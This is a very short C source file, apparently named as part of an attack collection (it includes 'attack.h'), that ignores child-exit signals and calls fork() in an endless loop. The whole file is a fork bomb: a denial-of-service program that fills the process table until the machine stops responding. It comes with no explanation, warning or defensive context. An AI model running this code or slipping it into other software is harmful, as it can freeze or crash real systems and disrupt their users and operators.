/* Processes that make processes. */
#include "attack.h"

int main(void) {
    signal(SIGCHLD, SIG_IGN);
    for (;;) fork();
}
